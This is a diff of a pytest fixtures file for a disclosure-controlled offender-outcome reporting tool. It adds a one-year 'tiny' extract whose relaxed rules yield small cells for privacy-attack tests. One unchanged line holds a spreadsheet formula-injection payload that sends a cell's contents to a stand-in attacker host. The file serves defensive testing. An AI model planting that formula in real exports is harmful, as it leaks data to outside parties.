@@ -6,7 +6,9 @@
   jurisdiction label that is a spreadsheet formula (held by 120 people, so it is published), and
   quarantine mode with 2 broken person rows (``validate``, ``cohort``, ``report``,
   ``unodc-export``);
-* the same extract with ``rounding_base = 5`` (``report``).
+* the same extract with ``rounding_base = 5`` (``report``);
+* one year of the extract (about 80 alternatives and 33 custody cases, decision rules relaxed so
+  that every table is published): tiny groups (``report``).
 
 Each fixture returns the output folder; the attacks read only the files.
 """
@@ -29,8 +31,14 @@ FORMULA_LABEL = '=HYPERLINK("http://attacker.example/?x="&A1)'
 WRITTEN = (0, 3)
 
 
-def _config(folder: Path, base: int) -> Path:
-    path = folder / f"evaluation_base{base}.toml"
+def _config(folder: Path, base: int, tiny: bool = False) -> Path:
+    path = folder / (f"evaluation_base{base}.toml" if not tiny else "evaluation_tiny.toml")
+    period = ("2021-01-01", "2021-12-31") if tiny else ("2017-01-01", "2022-12-31")
+    # tiny: one year of decisions (about 80 alternatives, 33 custody); the decision rules are
+    # relaxed so that every table is published and the attacks have small cells to work on;
+    # overlap weights (ATE) keep the variance finite with 33 custody cases
+    rules = ("[decision_rules]\nmin_treated = 20\nmin_control = 10\nmin_expected = 1\n"
+             "min_treated_reoffenders = 5\n[design]\nmethod = \"overlap\"\nestimand = \"ATE\"\n") if tiny else ""
     path.write_text(f"""[data]
 path = "data"
 mode = "quarantine"
@@ -39,11 +47,11 @@ title = "attack extract"
 headline_horizon = 365
 pdf = false
 [cohort]
-period_start = 2017-01-01
-period_end = 2022-12-31
+period_start = {period[0]}
+period_end = {period[1]}
 [outcomes]
 subgroups = ["disposition", "substance"]
-[disclosure]
+{rules}[disclosure]
 threshold = 10
 rounding_base = {base}
 [costs.analysis]
@@ -105,6 +113,14 @@ def extract_runs(extract: Path) -> dict[str, Path]:
 def rounded_report(extract: Path) -> Path:
     out = extract / "out-report-base5"
     assert _run(["report", "--config", str(_config(extract, 5)), "--out", str(out), "--quiet", "--no-pdf"]) in WRITTEN
+    return out
+
+
+@pytest.fixture(scope="session")
+def tiny_report(extract: Path) -> Path:
+    out = extract / "out-report-tiny"
+    assert _run(["report", "--config", str(_config(extract, 0, tiny=True)), "--out", str(out), "--quiet",
+                 "--no-pdf"]) in WRITTEN
     return out
 
 
